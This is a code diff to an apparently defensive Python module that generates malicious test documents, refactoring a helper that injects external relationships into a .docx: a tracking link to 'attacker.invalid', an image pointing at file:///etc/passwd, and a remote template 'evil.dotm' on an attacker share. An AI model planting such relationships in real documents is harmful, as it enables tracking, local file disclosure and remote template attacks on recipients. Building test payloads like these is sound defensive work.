@@ -11,7 +11,6 @@ from __future__ import annotations
 import io
 import os
 import random
-import shutil
 import sys
 import zipfile
 from dataclasses import dataclass, field
@@ -171,29 +170,24 @@ def _docx_with(name: str, extra: dict[str, bytes], content_types: bytes | None =
     return make
 
 
-def _external_rels() -> bytes:
-    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
-            b'Target="http://attacker.invalid/track.png" TargetMode="External"/>'
-            b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
-            b'Target="file:///etc/passwd" TargetMode="External"/>'
-            b'<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-            b'Target="\\\\attacker.invalid\\share\\evil.dotm" TargetMode="External"/>'
-            b'</Relationships>')
+EXTERNAL_RELATIONS = (
+    b'<Relationship Id="rIdX1" Target="http://attacker.invalid/track.png" TargetMode="External" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
+    b'<Relationship Id="rIdX2" Target="file:///etc/passwd" TargetMode="External" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
+    b'<Relationship Id="rIdX3" Target="\\\\attacker.invalid\\share\\evil.dotm" TargetMode="External" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>')
 
 
 def _with_external_refs(directory: Path) -> Path:
     """Relations to a web address, a local file and a remote template (never fetched)."""
     source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
     path = directory / "externa-referenser.docx"
-    rels = _external_rels()
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
         for info in source.infolist():
             data = source.read(info.filename)
             if info.filename == "word/_rels/document.xml.rels":
-                data = data.replace(b"</Relationships>", rels.split(b"<Relationships", 1)[1].split(b">", 1)[1]
-                                    .replace(b"</Relationships>", b"") + b"</Relationships>")
+                data = data.replace(b"</Relationships>", EXTERNAL_RELATIONS + b"</Relationships>")
             out.writestr(info.filename, data)
     return path
 
@@ -649,7 +643,3 @@ def form_payloads() -> list[Payload]:
 
 def all_payloads() -> list[Payload]:
     return file_payloads() + draft_payloads() + budget_payloads() + form_payloads()
-
-
-def copy_file(src: Path, dst: Path) -> None:
-    shutil.copyfile(src, dst)
